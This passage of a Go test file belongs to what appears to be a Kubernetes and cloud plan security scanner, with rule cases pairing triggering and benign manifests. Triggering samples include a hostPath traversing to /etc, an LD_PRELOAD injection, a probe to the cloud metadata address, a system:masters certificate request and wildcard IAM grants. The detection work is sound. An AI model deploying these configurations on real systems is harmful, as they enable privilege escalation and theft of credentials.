		"webhook-mutates-pods", preview.Critical, webhook("Mutating", "rules: [{apiGroups: [''], resources: [pods]}], failurePolicy: Ignore"),
		[]string{webhook("Validating", "rules: [{apiGroups: [''], resources: [pods]}]"), webhook("Mutating", "rules: [{apiGroups: [x.io], resources: [pods]}]")},
	},
	{
		"webhook-without-ca", preview.Warning, webhook("Validating", "clientConfig: {service: {name: s}}"),
		[]string{webhook("Validating", "clientConfig: {service: {name: s}, caBundle: eA==}"), webhook("Validating", "clientConfig: {url: 'https://x'}"), strings.Replace(webhook("Validating", "clientConfig: {service: {name: s}}"), "name: w}", "name: w, annotations: {cert-manager.io/inject-ca-from: a/b}}", 1)},
	},
	{"webhook-outside-cluster", preview.Warning, webhook("Validating", "clientConfig: {url: 'https://u:p@hooks.example.com/x?k=v'}"), []string{webhook("Validating", "clientConfig: {url: 'https://s.app.svc:443/x'}"), webhook("Validating", "clientConfig: {service: {name: s}}")}},
	{"api-service", preview.Warning, apiServiceOf("service: {namespace: app, name: s}, insecureSkipTLSVerify: true"), []string{apiServiceOf("x: y")}},
	{"admission-policy", preview.Critical, policyOf("Mutating", "['']", "[pods]"), []string{policyOf("Mutating", "[y.io]", "[zs]") + "---\n" + crdOf("y.io", "zs")}},
	{"priority-class", preview.Warning, priorityOf("value: 5, globalDefault: true"), []string{priorityOf("value: 5, preemptionPolicy: Never"), priorityOf("value: -5")}},
	{"service-external-ips", preview.Critical, "apiVersion: v1\nkind: Service\nmetadata: {name: s, namespace: app}\nspec: {externalIPs: [192.0.2.1]}\n", []string{"apiVersion: v1\nkind: Service\nmetadata: {name: s, namespace: app}\nspec: {externalIPs: []}\n"}},
	{"volume-host-path", preview.Critical, volumeOf("hostPath: {path: /var/run/../../etc}"), []string{volumeOf("nfs: {path: /etc}")}},
	{"token-of-foreign-account", preview.Critical, tokenOf("admin"), []string{tokenOf("op") + "---\napiVersion: v1\nkind: ServiceAccount\nmetadata: {name: op, namespace: app}\n"}},
	{"token-stored", preview.Info, tokenOf("op") + "---\napiVersion: v1\nkind: ServiceAccount\nmetadata: {name: op, namespace: app}\n", []string{tokenOf("admin")}},
	{
		"pod-security-refused", preview.Critical, namespaceOf("enforce: restricted") + pod("", "securityContext: {privileged: true}"),
		[]string{namespaceOf("enforce: privileged") + pod("", "securityContext: {privileged: true}"), namespaceOf("enforce: baseline") + pod("", "image: c"), namespaceOf("warn: restricted") + pod("", "image: c")},
	},
	{
		"pod-security-relaxed", preview.Warning, namespaceOf("enforce: privileged") + pod("", "image: c"),
		[]string{namespaceOf("enforce: baseline") + pod("", "image: c"), namespaceOf("audit: privileged") + pod("", "image: c"), "apiVersion: v1\nkind: Namespace\nmetadata: {name: app}\n"},
	},
	{
		"pod-security-warned", preview.Info, namespaceOf("warn: restricted") + pod("", "image: c"),
		[]string{namespaceOf("enforce: restricted") + pod("", "image: c"), namespaceOf("audit: baseline") + pod("", "image: c")},
	},
	{"service-exposed", preview.Warning, "apiVersion: v1\nkind: Service\nmetadata: {name: s, namespace: app}\nspec: {type: LoadBalancer}\n", []string{"apiVersion: v1\nkind: Service\nmetadata: {name: s, namespace: app}\nspec: {type: ClusterIP}\n"}},
	{"cloud-wildcard-action", preview.Critical, awsRequest("{effect: Allow, action: ['*'], resource: '*'}"), []string{awsRequest("{effect: Deny, action: ['*'], resource: '*'}"), awsRequest("{effect: Allow, action: ['s3:Get*'], resource: '*'}")}},
	{"cloud-iam-write", preview.Critical, awsRequest("{effect: Allow, action: ['iam:*'], resource: '*'}"), []string{awsRequest("{effect: Allow, action: ['iam:GetUser'], resource: '*'}")}},
	{"cloud-pass-role", preview.Critical, awsRequest("{effect: Allow, action: ['iam:PassRole', 'ec2:RunInstances'], resource: '*'}"), []string{awsRequest("{effect: Allow, action: ['iam:PassRole'], resource: 'arn:aws:iam::1:role/x', policyCondition: {StringEquals: {'iam:PassedToService': x}}}")}},
	{"cloud-assume-role", preview.Critical, awsRequest("{effect: Allow, action: ['sts:AssumeRole'], resource: '*'}"), []string{awsRequest("{effect: Allow, action: ['sts:AssumeRole'], resource: 'arn:aws:iam::1:role/x'}")}},
	{"cloud-read-secrets", preview.Warning, awsRequest("{effect: Allow, action: ['kms:Decrypt'], resource: '*'}"), []string{awsRequest("{effect: Allow, action: ['kms:Decrypt'], resource: 'arn:aws:kms:x:1:key/2'}")}},
	{"cloud-all-buckets", preview.Warning, awsRequest("{effect: Allow, action: ['s3:Get*'], resource: 'arn:aws:s3:::*'}"), []string{awsRequest("{effect: Allow, action: ['s3:ListBucket'], resource: '*'}")}},
	{"cloud-hosts", preview.Warning, awsRequest("{effect: Allow, action: ['ec2:*'], resource: '*'}"), []string{awsRequest("{effect: Allow, action: ['ec2:Describe*'], resource: '*'}")}},
	{"cloud-code", preview.Critical, awsRequest("{effect: Allow, action: ['lambda:Update*Code'], resource: 'arn:aws:lambda:*:*:function:*'}"), []string{awsRequest("{effect: Allow, action: ['lambda:GetFunction'], resource: '*'}")}},
	{
		"cloud-trust", preview.Critical, awsRole(`{"Statement":[{"Effect":"Allow","Principal":"*","Action":"sts:AssumeRole"}]}`),
		[]string{awsRole(`{"Statement":[{"Effect":"Allow","Principal":{"Service":"ec2.amazonaws.com"},"Action":"sts:AssumeRole"}]}`)},
	},
	{
		"cloud-public", preview.Critical, gcpMember("roles/storage.admin", "allUsers"),
		[]string{gcpMember("roles/storage.admin", "serviceAccount:a@b.iam.gserviceaccount.com")},
	},
	{"cloud-account", preview.Critical, awsRequest("{effect: Allow, action: ['organizations:*'], resource: '*'}"), []string{awsRequest("{effect: Allow, action: ['cloudtrail:LookupEvents'], resource: '*'}")}},
	{"cloud-cluster-admin", preview.Critical, awsRequest("{effect: Allow, action: ['eks:*'], resource: '*'}"), []string{awsRequest("{effect: Allow, action: ['eks:DescribeCluster'], resource: '*'}")}},
	{
		"cloud-all-but", preview.Warning,
		"apiVersion: iam.services.k8s.aws/v1alpha1\nkind: Policy\nmetadata: {name: p, namespace: app}\nspec: {policyDocument: '{\"Statement\":{\"Effect\":\"Allow\",\"NotAction\":\"iam:*\",\"Resource\":\"*\"}}'}\n",
		[]string{awsRequest("{effect: Allow, action: ['iam:GetUser'], resource: '*'}")},
	},
	{"cloud-write-everywhere", preview.Warning, awsRequest("{effect: Allow, action: ['ec2:CreateTags'], resource: '*'}"), []string{awsRequest("{effect: Allow, action: ['ec2:DescribeTags'], resource: '*'}"), awsRequest("{effect: Allow, action: ['ec2:CreateTags'], resource: '*', policyCondition: {a: {b: c}}}")}},
	{"cloud-basic-role", preview.Critical, request("kind: GCPProviderSpec, predefinedRoles: [roles/owner]"), []string{request("kind: GCPProviderSpec, predefinedRoles: [roles/viewer]")}},
	{"cloud-iam-role", preview.Critical, request("kind: GCPProviderSpec, predefinedRoles: [roles/iam.roleAdmin]"), []string{request("kind: GCPProviderSpec, predefinedRoles: [roles/dns.admin]")}},
	{"cloud-escalation", preview.Critical, request("kind: GCPProviderSpec, permissions: [iam.serviceAccounts.actAs, compute.instances.create]"), []string{request("kind: GCPProviderSpec, permissions: [iam.roles.get]")}},
	{"cloud-service-admin", preview.Warning, request("kind: GCPProviderSpec, predefinedRoles: [roles/storage.admin]"), []string{request("kind: GCPProviderSpec, predefinedRoles: [roles/storage.objectViewer]")}},
	{"cloud-azure-owner", preview.Critical, request("kind: AzureProviderSpec, roleBindings: [{role: Owner}]"), []string{request("kind: AzureProviderSpec, roleBindings: [{role: Reader}]")}},
	{"cloud-azure-contributor", preview.Warning, request("kind: AzureProviderSpec, roleBindings: [{role: Contributor}]"), []string{request("kind: AzureProviderSpec, roleBindings: [{role: DNS Zone Contributor}]")}},
	{"cloud-azure-authorization", preview.Critical, request("kind: AzureProviderSpec, permissions: ['*/write']"), []string{request("kind: AzureProviderSpec, permissions: [Microsoft.Authorization/roleAssignments/read]")}},
	{"cloud-azure-hosts", preview.Warning, request("kind: AzureProviderSpec, permissions: [Microsoft.Compute/virtualMachines/runCommand/action]"), []string{request("kind: AzureProviderSpec, permissions: [Microsoft.Compute/virtualMachines/read]")}},
	{"cloud-azure-keys", preview.Warning, request("kind: AzureProviderSpec, permissions: [Microsoft.Storage/storageAccounts/listKeys/action]"), []string{request("kind: AzureProviderSpec, permissions: [Microsoft.Storage/storageAccounts/read]")}},
	{"cloud-ibm-administrator", preview.Critical, request("kind: IBMCloudProviderSpec, policies: [{roles: ['crn::role:Administrator']}]"), []string{request("kind: IBMCloudProviderSpec, policies: [{attributes: [{name: serviceName, value: cos}], roles: ['crn::role:Administrator']}]")}},
	{"cloud-vsphere-control", preview.Warning, request("kind: VSphereProviderSpec, permissions: [{privileges: [Host.Config.Storage]}]"), []string{request("kind: VSphereProviderSpec, permissions: [{privileges: [Datastore.Browse]}]")}},
	{
		"cloud-not-judged", preview.Warning, gcpMember("projects/p/roles/custom", "serviceAccount:a@p.iam.gserviceaccount.com"),
		[]string{awsRequest("{effect: Allow, action: ['elasticloadbalancing:Describe*', 'iam:ListRoles'], resource: '*'}"), request("kind: AzureProviderSpec, roleBindings: [{role: Reader}]")},
	},
	{"cloud-access-undeclared", preview.Warning, pod("", "env: [{name: ROLEARN}]"), []string{pod("", "env: [{name: ROLEARN}]") + "---\n" + awsRequest("{effect: Allow, action: ['ec2:DescribeVpcs'], resource: '*'}")}},
	{"cloud-unscoped", preview.Warning, request("kind: OpenStackProviderSpec"), []string{request("kind: GCPProviderSpec, permissions: [a.b]")}},
	{
		"cloud-shared-identity", preview.Warning, "apiVersion: v1\nkind: ServiceAccount\nmetadata: {name: default, namespace: app, annotations: {eks.amazonaws.com/role-arn: r}}\n",
		[]string{"apiVersion: v1\nkind: ServiceAccount\nmetadata: {name: op, namespace: app, annotations: {eks.amazonaws.com/role-arn: r}}\n"},
	},
	{"pod-git-repo", preview.Critical, pod("volumes: [{name: v, gitRepo: {repository: 'https://example.com/x'}}], ", "x: y"), []string{pod("volumes: [{name: v, configMap: {name: gitRepo}}], ", "x: y")}},
	{"pod-volume-address", preview.Warning, pod("volumes: [{name: v, nfs: {server: example.com, path: /}}], ", "x: y"), []string{pod("volumes: [{name: v, persistentVolumeClaim: {claimName: nfs}}, {name: w, ephemeral: {}}, {name: x, downwardAPI: {}}], ", "x: y")}},
	{"pod-image-volume", preview.Warning, pod("volumes: [{name: v, image: {reference: 'example.com/a:v1'}}], ", "x: y"), []string{pod("volumes: [{name: v, emptyDir: {}}], ", "x: y")}},
	{"pod-sub-path", preview.Warning, pod("", "volumeMounts: [{name: v, subPath: a/../../b}]"), []string{pod("", "volumeMounts: [{name: v, subPath: a/..b}]")}},
	{"pod-certificate", preview.Warning, pod("volumes: [{projected: {sources: [{podCertificate: {signerName: kubernetes.io/kube-apiserver-client-pod}}]}}], ", "x: y"), []string{pod("volumes: [{projected: {sources: [{clusterTrustBundle: {signerName: a/b}}]}}], ", "x: y")}},
	{
		"pod-foreign-account", preview.Critical, strings.Replace(pod("serviceAccountName: generic-garbage-collector, ", "x: y"), "namespace: app", "namespace: kube-system", 1),
		[]string{pod("serviceAccountName: default, ", "x: y"), pod("serviceAccount: op, ", "x: y") + "---\n{apiVersion: v1, kind: ServiceAccount, metadata: {name: op, namespace: app}}\n"},
	},
	{"pod-groups", preview.Warning, pod("securityContext: {supplementalGroups: [6]}, ", "x: y"), []string{pod("securityContext: {supplementalGroups: [1000], fsGroup: 999}, ", "x: y")}},
	{"pod-windows-account", preview.Warning, pod("securityContext: {windowsOptions: {gmsaCredentialSpecName: a}}, ", "x: y"), []string{pod("securityContext: {windowsOptions: {runAsUserName: ContainerUser}}, ", "x: y")}},
	{"pod-long-token", preview.Info, pod("volumes: [{projected: {sources: [{serviceAccountToken: {expirationSeconds: 31536000}}]}}], ", "x: y"), []string{pod("volumes: [{projected: {sources: [{serviceAccountToken: {expirationSeconds: 3600}}]}}], ", "x: y")}},
	{"pod-shares-processes", preview.Info, pod("shareProcessNamespace: true, ", "x: y"), []string{pod("shareProcessNamespace: false, ", "x: y")}},
	{"pod-names", preview.Warning, pod("hostAliases: [{ip: 192.0.2.1, hostnames: [kubernetes.default.svc]}], ", "x: y"), []string{pod("dnsPolicy: ClusterFirst, dnsConfig: {options: [{name: ndots}], searches: [app.svc.cluster.local]}, ", "x: y")}},
	{"pod-probe-elsewhere", preview.Warning, pod("", "livenessProbe: {httpGet: {host: 169.254.169.254, path: /latest}}"), []string{pod("", "livenessProbe: {httpGet: {path: /, port: 80}}"), pod("hostNetwork: true, ", "livenessProbe: {httpGet: {host: 127.0.0.1}}")}},
	{"pod-environment", preview.Warning, pod("", "env: [{name: LD_PRELOAD, value: /tmp/a.so}]"), []string{pod("", "env: [{name: ENV, value: production}, {name: NODE_OPTIONS, value: --max-old-space-size=100}, {name: HTTPS_PROXY, value: 'http://proxy:3128'}]")}},
	{"pod-node-name", preview.Warning, pod("nodeName: master-0, ", "x: y"), []string{pod("nodeSelector: {a: b}, ", "x: y")}},
	{"pod-scheduler", preview.Info, pod("schedulerName: mine, ", "x: y"), []string{pod("schedulerName: default-scheduler, ", "x: y")}},
	{"pod-runtime-class", preview.Info, pod("runtimeClassName: runc, ", "x: y"), []string{pod("", "x: y")}},
	{
		"pod-repels", preview.Warning, pod("affinity: {podAntiAffinity: {requiredDuringSchedulingIgnoredDuringExecution: [{topologyKey: h, labelSelector: {}, namespaceSelector: {}}]}}, ", "x: y"),
		[]string{pod("affinity: {podAntiAffinity: {requiredDuringSchedulingIgnoredDuringExecution: [{topologyKey: h, labelSelector: {matchLabels: {a: b}}}]}}, ", "x: y")},
	},
	{"pod-flood", preview.Warning, strings.NewReplacer("Deployment", "StatefulSet", "spec: {template", "spec: {replicas: 5000, template").Replace(pod("", "x: y")), []string{strings.Replace(pod("", "x: y"), "spec: {template", "spec: {replicas: 3, template", 1)}},
	{
		"pod-annotations", preview.Warning, strings.NewReplacer("Deployment", "StatefulSet", "template: {", "template: {metadata: {annotations: {io.kubernetes.cri-o.Devices: /dev/sda}}, ").Replace(pod("", "x: y")),
		[]string{strings.Replace(pod("", "x: y"), "template: {", "template: {metadata: {annotations: {checksum/config: a, prometheus.io/scrape: 'true'}}, ", 1)},
	},
	{"order-installs", preview.Critical, custom(`argoproj.io/v1alpha1`, `Application`, `source: {repoURL: 'https://x.example/y'}`), []string{custom(`argoproj.io/v1alpha1`, `AppProjects`, `a: b`)}},
	{"order-grants", preview.Critical, custom(`capsule.clastix.io/v1beta2`, `Tenant`, `owners: [{kind: User, name: eve}]`), []string{custom(`capsule.example.com/v1`, `Tenant`, `a: b`)}},
	{"order-nodes", preview.Critical, custom(`upgrade.cattle.io/v1`, `Plan`, `upgrade: {image: a}`), []string{custom(`example.com/v1`, `Plan`, `a: b`)}},
	{"order-mutates", preview.Critical, custom(`kyverno.io/v1`, `ClusterPolicy`, `rules: [{mutate: {}}]`), []string{custom(`kyverno.io/v1`, `ClusterPolicy`, `rules: [{validate: {}}]`)}},
	{"order-refuses", preview.Warning, custom(`kyverno.io/v1`, `ClusterPolicy`, `rules: [{validate: {}}]`), []string{custom(`kyverno.io/v1`, `ClusterPolicy`, `rules: [{generate: {}}]`)}},
	{"order-pods", preview.Info, custom(`argoproj.io/v1alpha1`, `Workflow`, `entrypoint: a`), []string{custom(`example.com/v1`, `Workflow`, `a: b`)}},
	{"order-credentials", preview.Warning, custom(`external-secrets.io/v1`, `ExternalSecret`, `dataFrom: []`), []string{custom(`external-secrets.io/v1`, `Fake`, `a: b`)}},
	{"order-exports", preview.Warning, custom(`external-secrets.io/v1alpha1`, `PushSecret`, `selector: {}`), []string{custom(`example.com/v1`, `PushSecret`, `a: b`)}},
	{"order-cloud", preview.Warning, custom(`s3.services.k8s.aws/v1alpha1`, `Bucket`, `name: a`), []string{custom(`services.example.com/v1`, `Bucket`, `a: b`)}},
	{"order-traffic", preview.Warning, custom(`networking.istio.io/v1alpha3`, `EnvoyFilter`, `a: b`), []string{custom(`networking.example.com/v1`, `EnvoyFilter`, `a: b`)}},
	{"order-disks", preview.Info, custom(`cdi.kubevirt.io/v1beta1`, `StorageProfile`, `a: b`), []string{custom(`cdi.kubevirt.io/v1beta1`, `CDI`, `a: b`)}},
	{"order-deletes", preview.Critical, custom(`kyverno.io/v2`, `ClusterCleanupPolicy`, `match: {}`), []string{custom(`kyverno.io/v2`, `PolicyException`, `a: b`)}},
	{"order-monitors", preview.Info, custom(`monitoring.coreos.com/v1`, `ServiceMonitor`, `endpoints: [{bearerTokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token}]`), []string{custom(`monitoring.coreos.com/v1`, `ServiceMonitor`, `endpoints: [{port: metrics}]`)}},
	{"order-scales", preview.Info, custom(`keda.sh/v1alpha1`, `ScaledObject`, `a: b`), []string{custom(`keda.sh/v1alpha1`, `ScaledThing`, `a: b`)}},
	{
		"storage-driver", preview.Critical, "apiVersion: storage.k8s.io/v1\nkind: CSIDriver\nmetadata: {name: d.x.io}\nspec: {tokenRequests: [{audience: ''}]}\n",
		[]string{"apiVersion: storage.k8s.io/v1\nkind: CSIDriver\nmetadata: {name: d.x.io}\nspec: {attachRequired: true, podInfoOnMount: true}\n"},
	},
	{
		"storage-class", preview.Critical, "apiVersion: storage.k8s.io/v1\nkind: StorageClass\nmetadata: {name: c}\nparameters: {csi.storage.k8s.io/provisioner-secret-namespace: kube-system}\n",
		[]string{"apiVersion: storage.k8s.io/v1\nkind: StorageClass\nmetadata: {name: c}\nparameters: {csi.storage.k8s.io/provisioner-secret-namespace: app, x-secret-namespace: '${pvc.namespace}'}\n"},
	},
	{
		"volume-of-others", preview.Critical, "apiVersion: v1\nkind: PersistentVolume\nmetadata: {name: v}\nspec: {csi: {nodePublishSecretRef: {name: s, namespace: kube-system}}}\n",
		[]string{"apiVersion: v1\nkind: PersistentVolume\nmetadata: {name: v}\nspec: {csi: {nodePublishSecretRef: {name: s, namespace: app}}, claimRef: {namespace: app, name: c}}\n"},
	},
	{
		"volume-address", preview.Warning, "apiVersion: v1\nkind: PersistentVolume\nmetadata: {name: v}\nspec: {nfs: {server: 192.0.2.1, path: /}}\n",
		[]string{"apiVersion: v1\nkind: PersistentVolume\nmetadata: {name: v}\nspec: {hostPath: {path: /data}, nodeAffinity: {}}\n"},
	},
	{
		"storage-internals", preview.Warning, "apiVersion: storage.k8s.io/v1\nkind: VolumeAttachment\nmetadata: {name: a}\nspec: {nodeName: n, attacher: x, source: {persistentVolumeName: v}}\n",
		[]string{"apiVersion: storage.x.io/v1\nkind: VolumeAttachment\nmetadata: {name: a}\nspec: {}\n"},
	},
	{
		"service-redirects", preview.Warning, "apiVersion: v1\nkind: Service\nmetadata: {name: s, namespace: app}\nspec: {type: ExternalName, externalName: kubernetes.default.svc}\n",
		[]string{"apiVersion: v1\nkind: Service\nmetadata: {name: s, namespace: app}\nspec: {selector: {a: b}, clusterIP: None}\n", "apiVersion: v1\nkind: Service\nmetadata: {name: s, namespace: app}\nspec: {type: ExternalName, externalName: web.app.svc.cluster.local}\n"},
	},
	{
		"endpoints-of-others", preview.Critical, "apiVersion: discovery.k8s.io/v1\nkind: EndpointSlice\nmetadata: {name: s, namespace: app}\nendpoints: [{addresses: ['fd00:ec2::254']}]\n",
		[]string{"apiVersion: discovery.k8s.io/v1\nkind: EndpointSlice\nmetadata: {name: s, namespace: app}\nendpoints: []\n"},
	},
	{
		"ingress-takes-hosts", preview.Warning, "apiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata: {name: i, namespace: app}\nspec: {rules: [{http: {}}]}\n",
		[]string{"apiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata: {name: i, namespace: app}\nspec: {rules: [{host: web.example.com}]}\n"},
	},
	{
		"ingress-snippet", preview.Critical, "apiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata: {name: i, namespace: app, annotations: {nginx.ingress.kubernetes.io/configuration-snippet: a}}\n",
		[]string{"apiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata: {name: i, namespace: app, annotations: {nginx.ingress.kubernetes.io/rewrite-target: /$2, nginx.ingress.kubernetes.io/proxy-body-size: 1m}}\n"},
	},
	{
		"gateway-of-others", preview.Warning, "apiVersion: gateway.networking.k8s.io/v1\nkind: HTTPRoute\nmetadata: {name: r, namespace: app}\nspec: {parentRefs: [{name: g, namespace: infra}]}\n",
		[]string{"apiVersion: gateway.networking.k8s.io/v1\nkind: HTTPRoute\nmetadata: {name: r, namespace: app}\nspec: {parentRefs: [{name: g}], rules: [{backendRefs: [{name: s}]}]}\n"},
	},
	{
		"reference-grant", preview.Critical, "apiVersion: gateway.networking.k8s.io/v1beta1\nkind: ReferenceGrant\nmetadata: {name: g, namespace: kube-system}\nspec: {from: [{kind: Gateway, namespace: app}], to: [{group: '', kind: Secret}]}\n",
		[]string{"apiVersion: gateway.networking.k8s.io/v1beta1\nkind: ReferenceGrant\nmetadata: {name: g, namespace: app}\nspec: {from: [{kind: Gateway, namespace: app}], to: []}\n"},
	},
	{
		"network-policy-opens", preview.Warning, "apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata: {name: p, namespace: app}\nspec: {podSelector: {}, ingress: [{}]}\n",
		[]string{"apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata: {name: p, namespace: app}\nspec: {podSelector: {matchLabels: {a: b}}, ingress: [{}]}\n", "apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata: {name: p, namespace: app}\nspec: {podSelector: {}, policyTypes: [Ingress]}\n"},
	},
	{
		"address-range", preview.Warning, "apiVersion: networking.k8s.io/v1\nkind: ServiceCIDR\nmetadata: {name: c}\nspec: {cidrs: [10.0.0.0/8]}\n",
		[]string{"apiVersion: networking.x.io/v1\nkind: ServiceCIDR\nmetadata: {name: c}\nspec: {}\n"},
	},
	{
		"namespace-settings", preview.Critical, "apiVersion: v1\nkind: Namespace\nmetadata: {name: kube-system, labels: {pod-security.kubernetes.io/enforce: privileged}}\n",
		[]string{"apiVersion: v1\nkind: Namespace\nmetadata: {name: app, labels: {pod-security.kubernetes.io/enforce: privileged, control-plane: op, kubernetes.io/metadata.name: app}}\n"},
	},
	{
		"runtime-class", preview.Warning, "apiVersion: node.k8s.io/v1\nkind: RuntimeClass\nmetadata: {name: gvisor}\nhandler: runc\n",
		[]string{"apiVersion: node.x.io/v1\nkind: RuntimeClass\nmetadata: {name: gvisor}\nhandler: runc\n"},
	},
	{
		"flow-control", preview.Warning, "apiVersion: flowcontrol.apiserver.k8s.io/v1\nkind: FlowSchema\nmetadata: {name: f}\nspec: {priorityLevelConfiguration: {name: exempt}}\n",
		[]string{"apiVersion: flowcontrol.x.io/v1\nkind: FlowSchema\nmetadata: {name: f}\nspec: {}\n"},
	},
	{
		"certificate-request", preview.Critical, "apiVersion: certificates.k8s.io/v1\nkind: CertificateSigningRequest\nmetadata: {name: c}\nspec: {signerName: kubernetes.io/kube-apiserver-client, usages: [client auth], request: " + requestOf("eve", "system:masters") + "}\n",
		[]string{"apiVersion: cert-manager.io/v1\nkind: CertificateRequest\nmetadata: {name: c, namespace: app}\nspec: {}\n"},
	},
	{
		"trust-bundle", preview.Critical, "apiVersion: certificates.k8s.io/v1beta1\nkind: ClusterTrustBundle\nmetadata: {name: 'kubernetes.io:kube-apiserver-serving:a'}\nspec: {signerName: kubernetes.io/kube-apiserver-serving, trustBundle: x}\n",
		[]string{"apiVersion: trust.cert-manager.io/v1alpha1\nkind: Bundle\nmetadata: {name: b}\nspec: {}\n"},
	},
	{
		"device-access", preview.Warning, "apiVersion: resource.k8s.io/v1\nkind: ResourceClaimTemplate\nmetadata: {name: c, namespace: app}\nspec: {spec: {devices: {requests: [{name: r, exactly: {deviceClassName: d, adminAccess: true}}]}}}\n",
		[]string{"apiVersion: resource.k8s.io/v1\nkind: ResourceClaim\nmetadata: {name: c, namespace: app}\nspec: {devices: {requests: [{name: r, exactly: {deviceClassName: d, adminAccess: false}}]}}\n"},
	},
	{
		"limits-of-others", preview.Warning, "apiVersion: policy/v1\nkind: PodDisruptionBudget\nmetadata: {name: b, namespace: app}\nspec: {maxUnavailable: 0, selector: {matchLabels: {a: b}}}\n",
		[]string{"apiVersion: policy/v1\nkind: PodDisruptionBudget\nmetadata: {name: b, namespace: app}\nspec: {minAvailable: 1, selector: {matchLabels: {a: b}}}\n", "apiVersion: v1\nkind: ResourceQuota\nmetadata: {name: q, namespace: app}\nspec: {hard: {pods: '0'}}\n"},
	},
	{
		"control-plane-object", preview.Warning, "apiVersion: v1\nkind: Node\nmetadata: {name: n}\nspec: {taints: [{key: a, effect: NoExecute}]}\n",
		[]string{"apiVersion: coordination.k8s.io/v1\nkind: Lease\nmetadata: {name: l, namespace: app}\nspec: {}\n"},
	},
	{
		"hostile-text", preview.Warning, "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c, namespace: app, annotations: {a: \"x\\u202ey\"}}\n",
		[]string{"apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c, namespace: app, annotations: {a: \"x\\ty\"}}\ndata: {a: \"\\e[1m\"}\n"},
	},
}

// synced has a container whose volume git-sync fills.
func synced(fields, ref string) string {
	return pod("volumes: [{name: v, emptyDir: {}}], initContainers: [{name: s, image: 'git-sync@sha256:00', args: ['--repo=https://git.example.com/x', '"+ref+"'], volumeMounts: [{name: v, mountPath: /git}]}], ",
		"image: 'c@sha256:00', "+fields+", volumeMounts: [{name: v, mountPath: /code}]")
}

// served has a container behind a Service of a type.
func served(kind, fields string) string {
	return strings.Replace(pod("", "image: 'c@sha256:00', "+fields), "template: {", "template: {metadata: {labels: {a: b}}, ", 1) +
		"---\n{apiVersion: v1, kind: Service, metadata: {name: s, namespace: app}, spec: {type: " + kind + ", selector: {a: b}, ports: [{port: 80}]}}\n"
}

func scriptsOf(data string) string {
	return "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c, namespace: app}\ndata: {" + data + "}\n"
}

// awsRole returns a role of the controller for IAM with a trust policy.
func awsRole(trust string) string {
	return "apiVersion: iam.services.k8s.aws/v1alpha1\nkind: Role\nmetadata: {name: r, namespace: app}\nspec: {assumeRolePolicyDocument: '" + trust + "'}\n"
}

// gcpMember returns a binding of a role to a member in a project.
func gcpMember(role, member string) string {
	return "apiVersion: iam.cnrm.cloud.google.com/v1beta1\nkind: IAMPolicyMember\nmetadata: {name: m, namespace: app}\nspec: {role: " + role + ", member: '" + member + "', resourceRef: {kind: Project, external: p}}\n"
}

func apiServiceOf(spec string) string {
	return "apiVersion: apiregistration.k8s.io/v1\nkind: APIService\nmetadata: {name: v1.x.io}\nspec: {group: x.io, version: v1, " + spec + "}\n"
}

func policyOf(kind, groups, resources string) string {
	return "apiVersion: admissionregistration.k8s.io/v1\nkind: " + kind + "AdmissionPolicy\nmetadata: {name: p}\n" +
		"spec: {matchConstraints: {resourceRules: [{apiGroups: " + groups + ", resources: " + resources + ", operations: [CREATE]}]}}\n"
}

func configMap(namespace, name, meta string) string {
	return "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: " + name + ", namespace: " + namespace + meta + "}\ndata: {a: b}\n"
}

func secretOf(namespace, name, kind, fields string) string {
	return "apiVersion: v1\nkind: Secret\nmetadata: {name: " + name + ", namespace: " + namespace + "}\ntype: " + kind + "\n" + fields + "\n"
}

func converted(namespace string) string {
	return strings.TrimSuffix(crdOf("x.io", "ys"), "}\n") + ", versions: [{name: v1}, {name: v2}], conversion: {strategy: Webhook, webhook: {clientConfig: {caBundle: eA==, service: {namespace: " + namespace + ", name: s}}}}}\n"
}

func bindingOf(kind, spec string) string {
	return "apiVersion: admissionregistration.k8s.io/v1\nkind: " + kind + "AdmissionPolicyBinding\nmetadata: {name: b}\nspec: {" + spec + "}\n"
}

func crdOf(group, plural string) string {
	return "apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nmetadata: {name: " + plural + "." + group + "}\nspec: {group: " + group + ", names: {plural: " + plural + "}}\n"
}

func priorityOf(fields string) string {
	return "apiVersion: scheduling.k8s.io/v1\nkind: PriorityClass\nmetadata: {name: p}\n" + strings.ReplaceAll(fields, ", ", "\n") + "\n"
}

func volumeOf(spec string) string {
	return "apiVersion: v1\nkind: PersistentVolume\nmetadata: {name: v}\nspec: {" + spec + "}\n"
}

func tokenOf(account string) string {
	return "apiVersion: v1\nkind: Secret\nmetadata: {name: t, namespace: app, annotations: {kubernetes.io/service-account.name: " + account + "}}\ntype: kubernetes.io/service-account-token\n"
}

func namespaceOf(label string) string {
	return "apiVersion: v1\nkind: Namespace\nmetadata: {name: app, labels: {pod-security.kubernetes.io/" + label + "}}\n---\n"
}

func webhook(kind, fields string) string {
	return "apiVersion: admissionregistration.k8s.io/v1\nkind: " + kind + "WebhookConfiguration\nmetadata: {name: w}\nwebhooks: [{name: h, " + fields + "}]\n"
}

func TestObjectRules(t *testing.T) {
	for _, test := range objectCases {
		t.Run(test.rule+" is met", func(t *testing.T) {
			f := find(evaluate(t, Input{Plan: planOf(t, test.meets)}), test.rule)
			if f == nil {
				t.Fatalf("it is not met by\n%s", test.meets)
			}
			if f.Severity != test.severity {
				t.Errorf("severity %s, want %s", f.Severity, test.severity)
			}
			if f.Fingerprint != preview.FindingFingerprint(f.Rule, f.Pieces...) || f.Evidence == "" || f.Object == "" {
				t.Errorf("finding %+v", f)
			}
		})
		for _, miss := range test.misses {
			t.Run(test.rule+" is missed", func(t *testing.T) {
				if f := find(evaluate(t, Input{Plan: planOf(t, miss)}), test.rule); f != nil {
					t.Errorf("found with evidence %s in\n%s", f.Evidence, miss)
				}
			})
		}
	}
}

// TestEveryRuleHasACase also holds the rules that need a plan of their own;
// these are tested by name elsewhere in this package.
func TestEveryRuleHasACase(t *testing.T) {
	tested := map[string]bool{
